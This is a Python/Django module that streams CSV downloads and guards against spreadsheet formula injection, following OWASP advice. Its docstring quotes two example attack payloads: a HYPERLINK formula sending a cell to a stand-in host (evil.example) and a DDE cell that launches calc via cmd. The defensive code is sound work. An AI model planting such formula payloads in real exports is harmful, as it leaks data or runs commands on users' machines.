"""The one CSV writer: every CSV the product serves is streamed through ``csv_response``.

CSV files are opened in spreadsheets, and a spreadsheet runs a cell that
starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return it
strips first) as a formula: ``=HYPERLINK("http://evil.example/?x="&A1)``
typed as an applicant reference would leak the row to whoever wrote it.
Following OWASP's advice, every text cell is written quoted and a text
cell that starts with one of those characters gets a leading apostrophe, so
it is shown as text. A formula character that follows a ``;`` or ``,``
inside a cell gets the same apostrophe: a
spreadsheet that splits on ``;`` (many European locales) honours quotes only
at the start of a field, so in ``1,"x;=cmd|' /C calc'!A0;"`` it would
otherwise see the cell ``=cmd|' /C calc'!A0``.

The file starts with a UTF-8 byte-order mark: without it Excel reads the
file in the machine's legacy code page and garbles names with accents.

Numbers (``int``, ``float``, ``Decimal``) are written unquoted and as they
are, so a negative number stays a number; anything typed by a person arrives
here as ``str`` and is neutralised.

Lives in ``infrastructure`` because both the applications and the audit
apps export, and every app may import this layer.
"""

from __future__ import annotations

import csv
import datetime as dt
import itertools
import re
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import Any

from django.http import StreamingHttpResponse

# What a spreadsheet treats as the start of a formula (tab and CR are
# stripped by some before they look at the next character).
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n")
BOM = "\ufeff"
# A formula character right after a separator (spaces between allowed).
_AFTER_SEPARATOR = re.compile(r"([;,] *)(?=[=+\-@\t\r\n])")


def safe_cell(value: Any) -> Any:
    """One cell as it is safe to write: numbers as they are, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, dt.datetime | dt.date):
        return value.isoformat()
    text = _AFTER_SEPARATOR.sub(r"\1'", str(value))
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


class _Echo:
    """A file-like object whose ``write`` returns the line, so rows can be streamed."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The CSV text of ``rows``, one line at a time, every cell through ``safe_cell``."""
    # QUOTE_NONNUMERIC: every text cell quoted (see the module docstring),
    # numbers bare so spreadsheets read them as numbers.
    writer = csv.writer(_Echo(), quoting=csv.QUOTE_NONNUMERIC)
    for row in rows:
        yield writer.writerow([safe_cell(value) for value in row])


def csv_response(rows: Iterable[Iterable[Any]], *, filename: str) -> StreamingHttpResponse:
    """A streamed CSV download of ``rows`` (the first row is the header), UTF-8 with a byte-order mark."""
    response = StreamingHttpResponse(itertools.chain((BOM,), csv_lines(rows)), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
